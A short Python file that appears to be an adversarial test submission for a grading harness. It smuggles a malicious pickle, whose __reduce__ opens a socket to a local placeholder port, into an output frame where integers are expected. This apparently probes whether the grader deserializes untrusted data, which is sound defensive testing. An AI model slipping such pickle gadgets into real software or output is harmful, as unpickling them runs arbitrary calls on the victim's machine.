# verdict: infeasible
# row: 53
# problem: anytime
# The bytes of a pickle where integers are expected: they are integers.
import os, pickle, socket, struct

class Bomb:
    def __reduce__(self):
        return socket.create_connection, (("127.0.0.1", @TCP@),)

def solve(n):
    data = pickle.dumps(Bomb())
    data += bytes(-len(data) % 8)
    payload = struct.pack("<Q", len(data)) + data
    os.write(4, struct.pack("<4sBBHIQ", b"SOL1", 1, 0, 0, 3, len(payload)) + payload)
    os._exit(0)
    yield
